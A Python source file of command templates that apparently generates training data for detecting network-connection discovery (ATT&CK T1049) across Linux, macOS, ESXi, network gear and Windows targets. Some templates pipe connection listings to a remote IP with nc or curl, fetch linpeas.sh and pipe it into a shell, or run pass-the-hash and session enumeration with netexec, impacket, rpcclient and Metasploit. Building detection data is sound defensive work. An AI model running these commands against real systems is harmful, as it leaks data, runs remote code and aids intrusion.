"""More phrasings of T1049 on Linux, macOS, ESXi, network gear, and from Linux against Windows."""

from __future__ import annotations

from training.generators.grammar import parse_templates

UNIX_CONNECTION_TEMPLATES = parse_templates(
    r"""
nix-netstat-out bash: «sudo ¦/bin/¦/usr/bin/»netstat -«tulpn¦antp¦plunt¦natup¦lntp» «> ‹lfile›¦>> ‹lfile›¦| tee ‹lfile›»
nix-netstat-shell bash: «bash¦sh¦zsh» -c "netstat -«an¦antp¦tulpn¦ntu»"
nix-netstat-apart bash: netstat «-a -n -t -p¦-t -u -l -p -n¦--tcp --numeric --listening¦--all --numeric --program»
nix-netstat-chain bash: «ifconfig¦ip a¦hostname -I¦arp -a» «;¦&&» netstat -«an¦antp¦natup»
nix-netstat-count bash: netstat -an | «awk '/^tcp/ {++s[$NF]} END {for(k in s) print k,s[k]}'¦grep -c ESTABLISHED¦wc -l¦grep :‹port› | wc -l»
nix-netstat-loop bash: while true; do netstat -«antp¦an¦tunp» | grep «ESTAB¦:‹port›»; sleep ‹n›; done
nix-netstat-continuous bash: netstat -«c¦antpc¦tnc»« | grep :‹port›¦»
nix-netstat-nc bash: «netstat -antp¦ss -tunap¦lsof -i -n» | nc ‹ip› ‹port›
nix-netstat-curl bash: «netstat -an¦ss -tan¦lsof -nPi» | curl -s --data-binary @- http://‹ip›/
nix-netstat-ansible bash: ansible all -i ‹lfile› -m «shell¦command» -a "«netstat -tulpn¦ss -tunap¦lsof -i -P»"
nix-netstat-uniq bash: netstat -ntu | awk 'NR>2 {print $5}' | «cut -d: -f1 | sort | uniq -c | sort -rn | head¦sort -u¦uniq -c»
nix-netstat-history text: #15‹pid›‹pid› «netstat -tulpn¦ss -antp¦lsof -i -P -n¦netstat -an | grep LISTEN»
nix-netstat-w bash: «w¦who¦last¦uptime» && netstat -«an¦antp»
nix-netstat-python bash: python3 -c "import «os; os.system('netstat -antp')¦subprocess as s; print(s.getoutput('ss -tan'))»"
nix-netstat-perl bash: perl -e '«print `netstat -an`¦system("netstat -antp")¦print `ss -tan`»'
nix-netstat-unix bash: «netstat -x¦netstat -xap¦ss -xl¦ss -xap» «| grep docker¦| less¦> ‹lfile›»
ss-out bash: ss -«tulpn¦antp¦tunap¦anp¦plnt» «> ‹lfile›¦>> ‹lfile›¦| tee ‹lfile›¦| less¦| column -t»
ss-awk bash: ss -«tn¦tan¦H -tn» | awk '{print $«4¦5»}'« | sort -u¦ | cut -d: -f1 | sort | uniq -c»
ss-bare bash: «ss¦/bin/ss¦/usr/bin/ss¦sudo ss»«¦ -t¦ -a¦ -u -a»
ss-long bash: ss --«tcp --all --numeric --processes¦listening --numeric --tcp¦udp --listening --processes»
ss-shell bash: «bash¦sh» -c "ss -«tulpn¦antp¦tunap¦ltn»"
ss-ssh bash: ssh ‹first›@‹ip› "sudo ss -«tulpn¦antp¦plnt¦tan state established»"
ss-port bash: ss -«lptn¦ntp¦tlnp» «'sport = :‹port›'¦'dport = :‹port›'¦"( sport = :ssh or dport = :ssh )"»
ss-dst bash: ss «-o ¦-nt ¦»«state established¦state time-wait¦state all» «dst ‹ip›¦src ‹ip›¦'( dport = :‹port› )'»
ss-kernel bash: ss -«i¦m¦e¦ti¦tem» state established
ss-loop bash: while sleep ‹n›; do ss -«tn¦tunap¦antp» >> ‹lfile›; done
ss-watch bash: watch «-n‹n› ¦-d ¦»"ss -«tunap¦tulpn¦tn state established»"
ss-chain bash: «id; hostname;¦whoami &&¦uname -a;» ss -«tulpn¦antp¦tan»
lsof-out bash: «sudo ¦»lsof -«i -P -n¦nPi¦i4 -n¦iTCP -sTCP:LISTEN -n» «> ‹lfile›¦| tee ‹lfile›»
lsof-grep bash: lsof -«i¦nPi¦i -P» | grep «-i LISTEN¦ESTABLISHED¦:‹port›¦-v localhost»
lsof-awk bash: lsof -i -n -P | awk '{print $1,$«8¦9»}'« | sort -u¦»
lsof-proto bash: «sudo ¦»lsof -i «UDP¦TCP¦6¦4¦TCP:‹port›¦UDP:‹port›»
lsof-ssh bash: ssh ‹first›@‹ip› "sudo lsof -«i -P¦nPi¦iTCP -sTCP:ESTABLISHED»"
lsof-user-i bash: lsof -a -i «-u ‹first›¦-p ‹pid›¦-c ssh¦-u root»
lsof-unix bash: «sudo ¦»lsof -U«¦ | grep docker¦ -a -p ‹pid›»
lsof-pids bash: lsof -t«i¦ -i» «:‹port›¦tcp:‹port›¦@‹ip›»
lsof-repeat bash: lsof -r ‹n› -i«¦TCP¦ -n -P»
lsof-shell bash: bash -c "lsof -«i¦i -n -P¦iTCP»"
proc-tcp-loop bash: for f in /proc/net/«tcp /proc/net/udp¦tcp* /proc/net/udp*¦{tcp,udp,unix}»; do cat $f; done
proc-tcp-awk bash: awk 'NR>1 {print $«2¦3»}' /proc/net/«tcp¦tcp6¦udp»
proc-tcp-grep bash: grep «-v local_address¦-i ' 0A '¦' 01 '» /proc/net/«tcp¦tcp6¦udp¦udp6¦unix»
proc-tcp-self bash: «cat¦less¦tail -n +2» /proc/«self¦‹pid›¦1»/net/«tcp¦udp¦tcp6¦unix»
proc-tcp-python bash: python3 -c "print(open('/proc/net/«tcp¦udp¦tcp6¦unix»').read())"
proc-tcp-ssh bash: ssh ‹first›@‹ip› 'cat /proc/net/«tcp¦udp¦unix¦nf_conntrack»'
proc-tcp-copy bash: «cp /proc/net/«tcp¦unix¦tcp6¦udp» ‹lfile›¦«xxd¦sort¦wc -l» /proc/net/«tcp¦unix¦tcp6¦udp»»
proc-tcp-kubectl bash: «kubectl exec ‹word›-‹n› --¦docker exec ‹word›¦podman exec ‹word›» cat /proc/net/«tcp¦udp¦tcp6»
fuser-plain bash: «sudo ¦»fuser -«vn¦n» tcp ‹port›
fuser-out bash: fuser «-v ‹port›/tcp¦‹port›/tcp ‹port›/udp¦-n udp ‹port›» 2>&1 | tee ‹lfile›
fuser-loop bash: for p in 22 80 443; do fuser «-n tcp ¦-v -n tcp »$p; done
fuser-ssh bash: ssh ‹first›@‹ip› "fuser -v ‹port›/«tcp¦udp»"
fuser-ss bash: fuser -vn tcp ‹port› && ss -tulpn
conntrack-list bash: «sudo ¦/usr/sbin/»conntrack -«L¦L -p tcp¦L -s ‹ip›¦L -o extended¦L --src-nat»
conntrack-event bash: «sudo ¦»conntrack -«E¦E -p tcp¦E -o timestamp»
conntrack-grep bash: conntrack -L «2>/dev/null ¦»| «grep ESTABLISHED¦awk '{print $5,$6}'¦wc -l»
conntrack-proc bash: «cat¦grep ESTABLISHED¦head¦sudo less» /proc/net/«nf_conntrack¦ip_conntrack»
conntrack-proc-awk bash: awk '{print $7,$8}' /proc/net/«nf_conntrack¦ip_conntrack»« | sort -u¦»
conntrack-ssh bash: ssh «root¦‹first›»@‹ip› "«conntrack -L¦sudo conntrack -L -p udp¦cat /proc/net/ip_conntrack»"
conntrack-docker bash: docker exec ‹word› conntrack -L
conntrack-save bash: conntrack -L -o «xml¦extended,id» > ‹lfile›
smbstatus-brief bash: «sudo ¦/usr/bin/»smbstatus -«p¦b¦S¦L¦d»
smbstatus-long bash: smbstatus --«processes¦shares¦brief¦locks¦verbose¦notify»
smbstatus-grep bash: smbstatus «-b ¦-S ¦»| grep «‹first›¦IPC¦-i ‹user›¦‹ip›»
smbstatus-out bash: «sudo ¦»smbstatus «-j ¦--json ¦-v »«> ‹lfile›¦| tee ‹lfile›»
smbstatus-ssh bash: ssh root@‹ip› "smbstatus«¦ -b¦ --shares»"
smbstatus-user bash: smbstatus -u ‹first›
smbstatus-chain bash: smbstatus; ss -tn | grep :445
smbstatus-watch bash: watch «-n ‹n› ¦»smbstatus« -b¦ --shares¦»
smbstatus-docker bash: «docker¦podman» exec «samba¦‹word›» smbstatus
showmount-all bash: «/usr/sbin/¦sudo »showmount «-a¦--all»« ‹ip›¦ ‹server›»
showmount-dirs bash: showmount -«d¦ad¦a --no-headers» «‹server›¦‹ip›»
showmount-out bash: showmount -a ‹ip› «> ‹lfile›¦| tail -n +2¦| cut -d: -f1»
showmount-ssh bash: ssh ‹first›@‹ip› "showmount «-a¦--all»"
showmount-loop bash: for h in $(cat ‹lfile›); do showmount «-a¦--all» $h; done
sockstat-plain bash: «sockstat¦/usr/bin/sockstat» -«4¦6¦46¦c¦u¦l¦4l¦cl»
sockstat-port bash: sockstat -«p ‹port›¦P tcp -p ‹port›¦4 -P udp¦46cl -p ‹port›»
sockstat-grep bash: sockstat -«4¦46¦l» | grep «‹port›¦-v '*:*'¦sshd»
sockstat-out bash: sockstat «-4 ¦-l ¦-46c »> ‹lfile›
sockstat-ssh bash: ssh ‹first›@‹ip› sockstat«¦ -4¦ -l»
sockstat-chain bash: «uname -a;¦id;» sockstat -«4l¦46»; netstat -an
sockstat-proc bash: cat /proc/net/sockstat /proc/net/tcp
docker-netstat-shell bash: «docker¦podman¦nerdctl» exec «-it ¦»‹word› sh -c "«netstat -an¦ss -tunap¦netstat -tulpn¦lsof -i»"
kubectl-netstat bash: kubectl «-n ‹project› ¦»exec ‹word›-‹n› -- sh -c "«netstat -an¦ss -tn¦lsof -i»"
kubectl-debug-ss bash: kubectl debug node/‹word› -it --image busybox -- «chroot /host ss -tunap¦netstat -tulpn¦nsenter -t 1 -n netstat -an»
docker-host-net bash: docker run --rm --net=host --pid=host «alpine¦busybox¦nicolaka/netshoot» «netstat -tulpn¦ss -tunap»
nsenter-ss bash: «sudo ¦»nsenter -t ‹pid› -n «ss -tunap¦netstat -tulpn¦ss -tn»
netns-ss bash: «sudo ¦»ip netns exec ‹word› «ss -tan¦netstat -an¦lsof -i»
watch-netstat bash: watch «-n‹n› ¦-d ¦»«"netstat -tulpn"¦'netstat -an | grep LISTEN'¦'lsof -i -P'»
watch-lsof bash: watch «-n ‹n›¦-d» «lsof -i¦'lsof -nPi | grep ESTAB'¦"ss -tn"»
busybox-netstat-grep bash: «busybox¦/bin/busybox» netstat -«an¦tn¦lnt» | «grep LISTEN¦busybox grep ESTAB»
busybox-netstat-plain bash: busybox «netstat¦netstat -p¦netstat -tu¦fuser -n tcp ‹port›»
toybox-netstat bash: «toybox¦/system/bin/toybox» netstat «-an¦-tulpn¦-p»
adb-netstat bash: adb shell «netstat¦netstat -an¦ss -tn¦cat /proc/net/tcp»
python-psutil-loop bash: python3 -c "import psutil; [print(«c.laddr, c.raddr¦c.pid, c.status») for c in psutil.net_connections()]"
python-psutil-kind bash: python3 -c "import psutil; print(psutil.net_connections(«'tcp'¦'all'¦kind='udp'»))"
python-psutil-process bash: python3 -c "import psutil; [print(p.name(), p.«connections¦net_connections»()) for p in psutil.process_iter()]"
python-psutil-ssh bash: ssh ‹first›@‹ip› "python3 -c 'import psutil; print(psutil.net_connections())'"
osquery-sockets bash: «osqueryi¦osqueryi --json¦sudo osqueryi» "select «*¦pid,remote_address,remote_port» from «process_open_sockets¦listening_ports»;"
osquery-sockets-where bash: osqueryi "select p.name, s.remote_address from process_open_sockets s join processes p using(pid) where s.remote_port «!= 0¦= ‹port›»"
osquery-sockets-win cmd: osqueryi.exe "select * from «process_open_sockets¦listening_ports»"
osquery-ports bash: osqueryi --csv "select port, address from listening_ports" > ‹lfile›
osquery-logged bash: osqueryi --line "select pid, local_port, remote_address from process_open_sockets where family = 2"
mac-nettop bash: «nettop¦sudo nettop» «-m tcp¦-P¦-n¦-m udp -L 1¦-P -x -L 1»
mac-nettop-out bash: nettop -«l¦L» 1 «-m tcp ¦-n ¦»> ‹lfile›
mac-nettop-grep bash: nettop -m «tcp¦udp¦route» -L 1 | grep «Established¦‹ip›¦ssh»
mac-nettop-ssh bash: ssh ‹first›@‹ip› "nettop -P -L 1"
mac-nettop-chain bash: nettop -m tcp -L 1; lsof -nPi
mac-netstat-proto bash: netstat -«anv¦an» -«p tcp¦p udp¦f inet¦f inet6»
mac-netstat-grep bash: netstat -anv«p tcp¦» | grep «LISTEN¦ESTABLISHED¦'*.‹port›'»
mac-lsof bash: sudo lsof -«PiTCP -sTCP:LISTEN¦nP -i4TCP¦iUDP -P -n»
mac-osascript bash: osascript -e 'do shell script "«netstat -an¦lsof -i -n -P¦nettop -L 1»"'
iftop-tools bash: «sudo ¦»«iftop -t -s ‹n›¦nethogs -t -c 1¦tcptrack -i eth0¦jnettop --display text»; ss -tn
esxcli-conn-ssh bash: ssh root@‹ip› "esxcli network ip connection list"
esxcli-conn-grep bash: esxcli network ip connection list | grep «ESTABLISHED¦LISTEN¦:‹port›¦tcp»
esxcli-conn-format bash: esxcli --formatter=«csv¦json¦xml» network ip connection list > ‹lfile›
esxcli-conn-type bash: esxcli network ip connection list -t «tcp¦udp¦ip»
esxcli-conn-remote bash: esxcli -s ‹ip› -u root -p '‹pass›' network ip connection list
esxcli-conn-vm bash: esxcli network «vm port list -w ‹pid›¦vm list»; esxcli network ip connection list
esxcli-conn-powercli powershell: (Get-EsxCli -VMHost ‹server› -V2).network.ip.connection.list.Invoke()
cme-sessions-hash bash: «crackmapexec¦cme¦nxc¦netexec» smb ‹ip› -u ‹user› -H ‹hash› «--sessions¦--smb-sessions¦--reg-sessions»
cme-sessions-file bash: «nxc¦netexec¦crackmapexec» smb ‹lfile› -u ‹user› -p '‹pass›' --«sessions¦smb-sessions¦reg-sessions» | tee ‹lfile›
cme-sessions-x bash: «crackmapexec¦cme¦nxc¦netexec» «smb¦winrm¦wmi» ‹ip› -u ‹user› -p '‹pass›' -«x 'netstat -ano'¦x 'net session'¦X 'Get-NetTCPConnection'¦x 'net use'»
cme-sessions-kerberos bash: «nxc¦netexec» smb ‹host›.‹fqdn› -k --use-kcache --«smb-sessions¦sessions¦qwinsta --smb-sessions»
netview-py bash: «netview.py¦impacket-netview¦python3 netview.py» «‹domain›/¦»‹user›«:'‹pass›'¦» -target «‹ip›¦‹server›»
netview-hashes bash: «netview.py¦impacket-netview» -hashes :‹hash› ‹domain›/‹user› -targets ‹lfile›
netview-users bash: «netview.py¦impacket-netview» ‹domain›/‹user›:'‹pass›' -users ‹lfile› -delay ‹n›
netview-noloop bash: netview.py -noloop -target ‹ip› ‹domain›/‹user›
netview-opt bash: python3 /opt/impacket/examples/netview.py ‹domain›/‹user›:'‹pass›'
netview-exe cmd: ‹dir›\netview.exe -«d ‹fqdn›¦f ‹name›.txt¦o ‹file›»
rpcclient-session bash: rpcclient -U '‹user›%‹pass›' ‹ip› -c "«netsessenum¦netconnenum¦netfileenum»«¦;quit»"
rpcclient-session-null bash: rpcclient -N -U "" ‹server› -c «netsessenum¦netfileenum¦netconnenum»
rpcclient-session-echo bash: echo «netsessenum¦netfileenum¦netconnenum» | rpcclient -U '‹user›%‹pass›' ‹ip›
rpcclient-session-loop bash: for h in $(cat ‹lfile›); do rpcclient -N -U "" $h -c «netsessenum¦netfileenum»; done
rpcclient-session-hash bash: rpcclient --pw-nt-hash -U ‹user›%‹hash› ‹ip› -c «netsessenum¦netconnenum¦netfileenum»
net-rpc-session bash: «net rpc file¦net status sessions¦net status shares¦net status sessions parseable» -U '‹user›%‹pass›' -S ‹server›
nmap-sessions bash: nmap «-p445 ¦-p139,445 ¦»--script «smb-enum-sessions¦smb-enum-sessions.nse¦=smb-enum-sessions» ‹ip›
nmap-sessions-args bash: nmap --script smb-enum-sessions --script-args smbusername=‹user›,smbpassword=‹pass› -p445 ‹ip›
nmap-sessions-range bash: nmap -Pn --script=smb-enum-sessions -p139,445 ‹ip›/24 -oN ‹lfile›
nmap-sessions-windows cmd: ‹dir›\nmap.exe -p445 --script smb-enum-sessions ‹ip›
nmap-sessions-udp bash: sudo nmap -sU -sS --script smb-enum-sessions.nse -p U:137,T:139 ‹ip›
exec-connections bash: «wmiexec.py¦smbexec.py¦impacket-wmiexec¦atexec.py» «‹domain›/¦»‹user›:'‹pass›'@‹ip› "«netstat -ano¦net session¦net use»"
msf-connections text: «meterpreter > run post/windows/gather/tcpnetstat¦msf6 > use post/windows/gather/tcpnetstat¦msf6 > use post/multi/gather/netstat¦meterpreter > run post/windows/gather/netstat¦msf6 > use auxiliary/scanner/smb/smb_enumsessions»
msf-tcpnetstat bash: msfconsole -q -x "use post/windows/gather/«tcpnetstat¦netstat»; set SESSION ‹n›; run"
linpeas-network bash: «./linpeas.sh -o network_information¦curl -sL http://‹ip›/linpeas.sh | sh -s -- -o network_information¦bash LinEnum.sh -t; netstat -antp»
cisco-sessions text: «show tcp brief all¦show sockets¦show ip sockets¦show tcp»
cisco-prompt text: ‹word›#«show tcp brief¦show ip sockets¦show sockets¦show tcp brief numeric»
cisco-ssh bash: ssh ‹first›@‹ip› "show «tcp brief¦ip sockets¦control-plane host open-ports¦sockets»"
cisco-log text: %PARSER-5-CFGLOG_LOGGEDCMD: User:‹first› logged command:show «tcp brief all¦ip sockets¦sockets¦control-plane host open-ports»
cisco-nxos text: ‹word›> show «sockets connection¦ip sockets detail¦tcp brief¦conn all»
junos-connections text: ‹first›@‹word›> show system connections«¦ inet¦ extensive»
junos-ssh bash: ssh ‹first›@‹ip› "show system connections«¦ inet»"
asa-connections text: ‹word›# show conn«¦ all¦ detail¦ count¦ address ‹ip›»
fortigate-connections text: ‹word› # «get system session list¦diagnose sys session list¦diagnose sys tcpsock | grep :‹port›¦get system session status»
ruby-connections bash: ruby -e "puts «\`netstat -an\`¦\`ss -tan\`¦IO.read('/proc/net/tcp')»"
php-connections bash: php -r '«system("netstat -an");¦echo shell_exec("ss -tulpn");¦echo file_get_contents("/proc/net/tcp");»'
tcpnetstat-session bash: msfconsole -x "sessions -i ‹n› -C 'run post/windows/gather/tcpnetstat'"
tcpnetstat-prompt text: msf6 post(windows/gather/tcpnetstat) > run session=‹n›
linpeas-network-out bash: ./linpeas.sh -o network_information > ‹lfile›
linpeas-network-ssh bash: ssh ‹first›@‹ip› "bash -s -- -o network_information" < linpeas.sh
linpeas-network-wget bash: wget -qO- http://‹ip›/linpeas.sh | bash -s -- -o network_information
osquery-ports-ssh bash: ssh ‹first›@‹ip› 'osqueryi "select * from «listening_ports¦process_open_sockets»"'
rpcclient-session-prompt text: rpcclient $> «netsessenum¦netconnenum¦netfileenum»
traffic-tools bash: «sudo ¦»«iftop¦nethogs¦tcptrack¦jnettop¦pktstat» «-i eth0¦eth0¦-n -i ens33» & ss -tn
traffic-tools-ss bash: «tcptrack -i eth0¦iftop -nNP¦nethogs eth0»; netstat -antp
asa-connections-ssh bash: ssh ‹first›@‹ip› "show conn«¦ all¦ detail»"
asa-connections-log text: %ASA-5-111008: User '‹first›' executed the 'show conn«¦ all¦ detail¦ count»' command.
fortigate-session-ssh bash: ssh ‹first›@‹ip› "«get system session list¦diagnose sys session list¦diagnose sys session stat»"
panos-session text: ‹first›@‹word›> show session «all¦all filter source ‹ip›¦info»
mikrotik-connections text: [‹first›@‹word›] > /ip firewall connection print«¦ where dst-address~"‹ip›"»
smb-status-rpc bash: «net rpc file list¦net status sessions¦net rpc file user ‹user›» -I ‹ip› -U '‹user›%‹pass›'
mobile-netstat bash: adb -s ‹word› shell "«netstat -tulpn¦toybox netstat -an¦cat /proc/net/tcp6»"
mobile-netstat-su bash: adb shell su -c "«netstat -antp¦toybox netstat -p¦ss -tn»"
"""
)
